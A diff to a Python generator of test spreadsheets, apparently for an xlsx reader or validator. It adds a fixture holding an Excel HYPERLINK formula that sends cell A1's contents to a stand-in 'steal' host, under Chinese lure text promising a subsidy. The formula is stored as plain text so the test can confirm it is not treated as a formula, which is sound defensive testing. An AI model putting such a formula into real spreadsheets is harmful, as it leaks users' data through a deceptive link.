@@ -59,6 +59,7 @@ class Case:
 
 CHINESE_NAME = "苏营镇 2023年 绩效目标（定稿）.xlsx"
 OWNER = "~$open-in-excel.xlsx"
+HYPERLINK_TEXT = '=HYPERLINK("http://example.invalid/steal?x="&A1,"点我领取补贴")'
 
 CORPUS: tuple[Case, ...] = (
     Case("good.xlsx", "good"),
@@ -69,6 +70,7 @@ CORPUS: tuple[Case, ...] = (
     Case("legacy.xls", "good", needs_lo=True),
     Case("special-sheet-name.xlsx", "good"),
     Case("control-chars.xlsx", "good"),
+    Case("hyperlink-text.xlsx", "good"),
     Case("amounts-text.xlsx", "problems", rules=("read.amount_text", "read.amount_unreadable")),
     Case("formulas-no-cache.xlsx", "problems"),
     Case("formulas-div0.xlsx", "problems", rules=("read.amount_unreadable",), needs_lo=True),
@@ -171,6 +173,10 @@ def make_good(out: Path) -> None:
     _project(wb).title = "项目 #1 & <测试> 'x'!%；（一）"
     _save(wb, out / "special-sheet-name.xlsx")
     _control_chars(out / "control-chars.xlsx")
+    wb = _book()
+    cell = _project(wb)["E3"]
+    cell.value, cell.data_type = HYPERLINK_TEXT, "s"  # typed text, not a formula
+    _save(wb, out / "hyperlink-text.xlsx")
 
 
 def _owner_file(user: str) -> bytes:
